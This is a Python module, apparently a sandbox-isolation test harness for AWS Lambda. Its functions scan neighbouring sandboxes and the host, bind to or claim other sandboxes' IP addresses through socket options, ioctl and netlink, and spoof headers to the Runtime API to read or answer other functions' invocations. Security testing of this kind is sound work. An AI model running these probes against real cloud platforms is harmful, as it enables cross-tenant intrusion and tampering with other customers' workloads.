"""Attempts on networks: other sandboxes, the host, identities of others."""

import fcntl
import http.client
import os
import socket
import struct

IP_FREEBIND, IP_TRANSPARENT = 15, 19


def result(tried, got):
    return {"tried": tried, "got": got}


def address():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        probe.connect(api())
        return probe.getsockname()[0]


def api():
    host, port = os.environ["AWS_LAMBDA_RUNTIME_API"].split(":")
    return host, int(port)


def connects(target, wait=0.1, source=None):
    try:
        with socket.create_connection(target, timeout=wait, source_address=source):
            return True
    except OSError:
        return False


def answers(target, wait=0.3):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asking:
        asking.settimeout(wait)
        try:
            asking.sendto(b"?", target)
            return bool(asking.recvfrom(100))
        except OSError:
            return False


def other_sandboxes(event, context):
    got, tried = [], 0
    for other in event["sandboxes"]:
        for port in event["sandboxPorts"]:
            tried += 2
            if connects((other, port)):
                got.append(f"tcp {other}:{port}")
            if answers((other, port)):
                got.append(f"udp {other}:{port}")
    return result(tried, got)


def the_host(event, context):
    gateway = api()[0]
    got, tried = [], 0
    for host in event["hosts"] + [gateway, "127.0.0.1", "0.0.0.0"]:
        for port in event["hostPorts"]:
            tried += 1
            if connects((host, port)):
                got.append(f"{host}:{port}")
    return result(tried, got)


def forged_addresses(event, context):
    """Speaks as another sandbox: binds to its address, takes it, or changes routes."""
    got, tried = [], 0
    for other in event["sandboxes"] + [api()[0]]:
        for option in (None, IP_FREEBIND, IP_TRANSPARENT):
            tried += 1
            with socket.socket() as forged:
                forged.settimeout(0.3)
                try:
                    if option:
                        forged.setsockopt(socket.IPPROTO_IP, option, 1)
                    forged.bind((other, 0))
                    forged.connect(api())
                    got.append(f"connected as {other} with {option}")
                except OSError:
                    pass
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as plain:
            tried += 1
            request = struct.pack("16sHH4s8x", b"eth0", socket.AF_INET, 0, socket.inet_aton(other))
            try:
                fcntl.ioctl(plain, 0x8916, request)  # SIOCSIFADDR
                got.append("took the address " + other)
            except OSError:
                pass
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as routes:
        tried += 1
        # RTM_NEWADDR of 100.64.9.9/32 to the second interface
        body = struct.pack("=BBBBI", 2, 32, 0, 0, 2) + struct.pack("=HH4s", 8, 2, socket.inet_aton("100.64.9.9"))
        routes.send(struct.pack("=IHHII", 16 + len(body), 20, 0x605, 1, 0) + body)
        if struct.unpack_from("=i", routes.recv(4096), 16)[0] == 0:
            got.append("took an address")
    return result(tried, got)


def others_invocations(event, context):
    """Asks the Runtime API as if it were another sandbox, and answers another function's invocation."""
    got = []
    for headers in ({"X-Forwarded-For": event["sandboxes"][0]}, {"Forwarded": "for=" + event["sandboxes"][0]},
                    {"Host": event["sandboxes"][0]}):
        connection = http.client.HTTPConnection(*api(), timeout=10)
        connection.request("GET", "/2018-06-01/runtime/invocation/next", headers=headers)
        answer = connection.getresponse()
        if answer.getheader("Lambda-Runtime-Aws-Request-Id") != context.aws_request_id:
            got.append(str(answer.getheaders()))
        connection.close()
    for request in event["requests"]:
        connection = http.client.HTTPConnection(*api(), timeout=10)
        connection.request("POST", f"/2018-06-01/runtime/invocation/{request}/response", body=b'"forged"')
        if connection.getresponse().status != 400:
            got.append("answered " + request)
        connection.close()
    return result(3 + len(event["requests"]), got)
